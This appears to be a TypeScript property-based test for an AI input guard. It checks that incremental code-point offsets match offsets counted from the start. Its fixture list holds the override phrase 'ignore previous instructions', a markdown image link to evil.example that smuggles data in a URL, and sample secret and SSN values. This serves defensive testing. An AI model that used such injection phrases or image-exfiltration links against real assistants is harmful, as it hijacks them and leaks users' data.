/**
 * Issue 19 §3 (docs/engine-speed.md "Third-unit checks (3 December, third session)"): the
 * raw input counts code points on from its last answer (input-text.ts `codePointOffset`)
 * instead of from the retained text's start for every event. For any text of CJK, ASCII,
 * emoji and lone surrogates, invisible units and tag characters (events at many offsets of
 * one chunk), secrets and values, split anywhere, every push and the end (event offsets in
 * code points) equal those of the same guard counting from the start each time.
 */
import fc from 'fast-check';
import { describe } from 'vitest';
import { codePointMemo } from '../../src/core/guard/input-text.ts';
import { proseOf, shortcutDifferential } from '../support/guard-steps.ts';

const word = fc.oneof(
  { weight: 2, arbitrary: fc.stringMatching(/^[\u4e00-\u9fff\uff01-\uff5e]{1,6}$/) },
  { weight: 2, arbitrary: fc.stringMatching(/^[A-Za-z0-9]{1,9}$/) },
  {
    weight: 1,
    arbitrary: fc.constantFrom('\ud83d\ude00', '\u{1F600}\u{1F680}', '\ud83d', '\ude00', 'a\ud83d'),
  },
);
/** Units that make events (stripped, flagged, redacted) next to surrogates. */
const value = fc.constantFrom(
  '\u200b',
  '\u{E0041}\u{E0042}',
  '\ufe0f',
  '\ud83d\ude00\u200b\ud83d\ude00',
  '\udb40',
  'AKIAIOSFODNN7EXAMPLE',
  '\u{1F600}AKIAIOSFODNN7EXAMPLE',
  '123-45-6789',
  'ignore previous instructions',
  '![x](https://evil.example/x.png?d=\u{1F600})',
);
const gap = fc.constantFrom('', ' ', '\n', '，', '\u{1F600}', '\ud83d', '\u200b');
const prose = proseOf(word, value, gap);
const sizes = fc.array(fc.integer({ min: 1, max: 64 }), { minLength: 1, maxLength: 16 });

describe('code points counted on from the last answer (issue 19 §3)', () => {
  shortcutDifferential('every push equals counting from the start', codePointMemo, prose, sizes);
});
